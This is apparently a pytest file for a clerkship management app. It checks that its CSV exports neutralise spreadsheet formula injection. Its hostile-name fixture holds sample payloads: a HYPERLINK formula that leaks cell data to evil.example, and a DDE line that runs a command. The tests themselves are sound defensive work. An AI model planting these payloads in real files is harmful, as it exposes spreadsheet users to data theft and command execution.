"""Every CSV the app writes makes spreadsheet formulas in people's text inert (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile

from sqlalchemy import select

from clerkship import demo
from clerkship.csvfile import safe_cell, to_csv
from clerkship.models import Cohort, ExportJob
from clerkship.roster import service as roster
from tests.conftest import login as _login

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_cell_prefixes_formula_starts_and_keeps_numbers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("Ana Lima") == "Ana Lima"
    assert safe_cell(-2) == -2 and safe_cell(3.5) == 3.5
    assert _rows(to_csv([["=1+1", 5]])) == [["'=1+1", "5"]]


def _rename_students(db, demo_year) -> list[str]:
    students = [demo_year[f"student0{n}"] for n in (1, 2, 3)]
    for student, name in zip(students, HOSTILE_NAMES, strict=False):
        student.name = name
    db.session.commit()
    return HOSTILE_NAMES[: len(students)]


def test_figures_csv_neutralises_formulas(client, db, demo_year):
    names = _rename_students(db, demo_year)
    cohort = db.session.scalar(select(Cohort))
    _login(client, demo_year["director"], demo.DEMO_PASSWORD)
    rows = _rows(client.get(f"/cohorts/{cohort.id}/figures.csv").get_data(as_text=True))
    _no_formula(rows)
    students = {row[0] for row in rows[1:]}
    assert students == {"'" + name for name in names}


def test_cohort_zip_index_csv_neutralises_formulas(client, db, demo_year, immediate_queue):
    names = _rename_students(db, demo_year)
    cohort = db.session.scalar(select(Cohort))
    _login(client, demo_year["director"], demo.DEMO_PASSWORD)
    client.post(f"/cohorts/{cohort.id}/export")
    job = db.session.scalar(select(ExportJob))
    download = client.get(f"/exports/{job.id}/download")
    bundle = zipfile.ZipFile(io.BytesIO(download.data))
    download.close()
    rows = _rows(bundle.read("index.csv").decode())
    _no_formula(rows)
    assert {row[0] for row in rows[1:]} == {"'" + name for name in names}


def test_roster_templates_go_through_the_same_writer():
    hostile = roster.Kind("students", "Students", ("email", "name"), (), (("a@b.org", "=1+1"),))
    assert _rows(roster.template_csv(hostile))[1] == ["a@b.org", "'=1+1"]
    for kind in roster.KINDS.values():
        _no_formula(_rows(roster.template_csv(kind)))
